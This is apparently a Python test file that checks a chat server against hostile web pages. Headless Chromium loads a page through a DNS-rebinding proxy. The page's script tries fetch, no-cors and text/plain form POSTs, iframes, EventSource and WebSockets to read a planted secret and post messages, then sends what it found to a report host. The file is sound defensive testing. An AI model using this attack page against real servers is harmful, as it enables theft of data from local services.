"""What a web page of somebody else can do to a server here, in a real browser (Chromium)."""

import json
import os
import queue
import select
import shutil
import socket
import socketserver
import subprocess
import threading
import unittest

from harness import TIMEOUT, HTTPClient, ServerCase

CHROMIUM = shutil.which("chromium")
SECRET = "the launch code is 4711"

# Tries everything that a page may try with each of the addresses, and tells what it has read.
PAGE = """<!DOCTYPE html><meta charset="utf-8"><title>page</title><body><script>
const bases = BASES, path = '/messages?room=ops', found = [];
const message = way => JSON.stringify({user: 'page', room: 'ops', text: way});
const json = {'Content-Type': 'application/json'}, plain = {'Content-Type': 'text/plain'};
const load = (base, set) => new Promise((done, failed) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  document.body.append(frame);
  frame.onload = () => {
    try { done(frame.contentDocument.documentElement.textContent); } catch (error) { failed(error); }
  };
  set(frame);
});
const ways = {
  get: async base => (await fetch(base + path)).text(),
  getOpaque: async base => (await fetch(base + path, {mode: 'no-cors'})).text(),
  post: async base => (await fetch(base + '/messages', {method: 'POST', headers: json, body: message('post')})).text(),
  postKey: async base => (await fetch(base + '/messages', {
    method: 'POST', headers: {...json, 'Idempotency-Key': 'k' + bases.indexOf(base)}, body: message('postKey')})).text(),
  postPlain: async base => (await fetch(base + '/messages', {
    method: 'POST', mode: 'no-cors', headers: plain, body: message('postPlain')})).text(),
  postBlob: async base => (await fetch(base + '/messages', {
    method: 'POST', mode: 'no-cors', body: new Blob([message('postBlob')])})).text(),
  xhr: base => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open('GET', base + path);
    request.onload = () => done(request.responseText);
    request.onerror = failed;
    request.send();
  }),
  frame: base => load(base, frame => { frame.src = base + path; }),
  form: base => load(base, frame => {
    const form = document.createElement('form'), field = document.createElement('input');
    Object.assign(form, {method: 'post', enctype: 'text/plain', action: base + '/messages', target: frame.name});
    Object.assign(field, {name: '{"user":"page","room":"ops","text":"form', value: '"}'});
    form.append(field);
    document.body.append(form);
    form.submit();
  }),
  events: base => new Promise((done, failed) => {
    const source = new EventSource(base + path);
    source.onmessage = event => done(event.data);
    source.onerror = () => { source.close(); failed(); };
  }),
  socket: base => new Promise((done, failed) => {
    let heard = '', text = 'socket' + bases.indexOf(base);
    const socket = new WebSocket((base || location.origin).replace('http', 'ws') + '/ws?user=page&room=ops');
    socket.onopen = () => socket.send(message(text));
    socket.onmessage = event => {
      heard += event.data;
      if (heard.includes(`"text":"${text}"`)) { done(heard); socket.close(); }
    };
    socket.onclose = failed;
  }),
};
(async () => {
  for (const base of bases) for (const way in ways) {
    let read = null;
    try { read = await ways[way](base); } catch (_) {}
    found.push({base, way, read});
  }
  await fetch('REPORT', {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
})();
</script>"""


class Rebinding(socketserver.ThreadingTCPServer):
    """The address that a page's name leads to: at first a server that has the page, and then the chat server.

    A browser cannot tell that from a name that was given another address in between.
    """

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), PageOrChat)
        self.chat = None
        self.page = b""
        self.reports = queue.Queue()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self):
        return self.server_address[1]

    def close(self):
        self.shutdown()
        self.server_close()


class PageOrChat(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.settimeout(TIMEOUT)
        data = b""
        while b"\r\n\r\n" not in data:
            more = self.request.recv(1 << 16)
            if not more:
                return
            data += more
        head, body = data.split(b"\r\n\r\n", 1)
        target = head.split(b" ")[1]
        if not target.startswith((b"/page", b"/favicon.ico")):
            return self.pass_on(data)
        fields = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
        while len(body) < int(fields.get(b"content-length", 0)):
            body += self.request.recv(1 << 16)
        content = b"" if target != b"/page" else self.server.page
        self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                             b"Content-Length: %d\r\n\r\n%s" % (len(content), content))
        if target == b"/page/report":
            self.server.reports.put(json.loads(body))

    def pass_on(self, data):
        """Hands every byte on, unchanged."""
        with socket.create_connection(self.server.chat.http, TIMEOUT) as chat:
            chat.sendall(data)
            ends = {self.request: chat, chat: self.request}
            while True:
                ready, _, _ = select.select(list(ends), [], [], TIMEOUT)
                if not ready:
                    return
                for end in ready:
                    try:
                        data = end.recv(1 << 16)
                        ends[end].sendall(data)
                    except OSError:
                        return
                    if not data:
                        return


@unittest.skipUnless(CHROMIUM, "there is no chromium here")
class ForeignPages(ServerCase):
    def setUp(self):
        self.name = self.keep(Rebinding())
        # One that never is the chat: a browser uses a connection again.
        self.reports = self.keep(Rebinding())

    def start(self, *arguments):
        self.chat = self.name.chat = self.server("--agent", "off", "--rate-limit", "off", *arguments)
        self.http = self.keep(HTTPClient(self.chat))
        self.http.post("ann", "ops", SECRET)

    def visit(self, host):
        """Opens the page of this name; gives back what each of its ways has read, by way and address."""
        port = self.chat.http[1]
        # Its own name, which leads to the chat now; that name at the real port; and what the server calls itself.
        bases = ["", f"http://{host}:{port}", f"http://localhost:{port}", f"http://127.0.0.1:{port}"]
        report = f"http://127.0.0.1:{self.reports.port}/page/report"
        self.name.page = PAGE.replace("BASES", json.dumps(bases)).replace("REPORT", report).encode()
        log = os.path.join(self.temporary_directory(), "log")
        with open(log, "wb") as output:
            browser = subprocess.Popen(
                ["setpriv", "--pdeathsig", "KILL", CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage",
                 f"--user-data-dir={self.temporary_directory()}",
                 "--host-resolver-rules=MAP * 127.0.0.1, EXCLUDE localhost",
                 f"http://{host}:{self.name.port}/page"],
                stdin=subprocess.DEVNULL, stdout=output, stderr=output, start_new_session=True)
            try:
                report = self.reports.reports.get(timeout=3 * TIMEOUT)
            except queue.Empty:
                with open(log, encoding="utf-8", errors="replace") as file:
                    self.fail("the page has not reported:\n" + file.read()[-3000:])
            finally:
                os.killpg(browser.pid, 9)
                browser.wait(TIMEOUT)
        self.assertEqual({entry["base"] for entry in report}, set(bases))
        return {(entry["way"], bases.index(entry["base"])): entry["read"] for entry in report}

    def stored(self):
        return sorted(message["text"] for message in self.http.get("/messages?room=ops").json()["messages"])

    def test_a_foreign_page_reads_and_writes_nothing(self):
        self.start()
        for place, read in self.visit("evil.example").items():
            self.assertNotIn(SECRET, read or "", place)
            self.assertNotIn('"published"', read or "", place)
        self.assertEqual(self.stored(), [SECRET])
        self.assertEqual(self.http.get("/rooms").json()["rooms"], [{"room": "ops", "members": 0}])

    def test_the_same_page_does_both_where_it_is_allowed(self):
        self.start("--allow-origin", f"http://friend.example:{self.name.port}")
        found = self.visit("friend.example")
        for base in range(4):
            for way in ("get", "xhr", "socket"):
                self.assertIn(SECRET, found[way, base] or "", (way, base))
            for way in ("post", "postKey"):
                self.assertIn('"published"', found[way, base] or "", (way, base))
        # What needs no preflight is no JSON, and so never a message.
        self.assertEqual(self.stored(), sorted([SECRET] + 4 * ["post", "postKey"] + [f"socket{base}" for base in range(4)]))


if __name__ == "__main__":
    unittest.main()
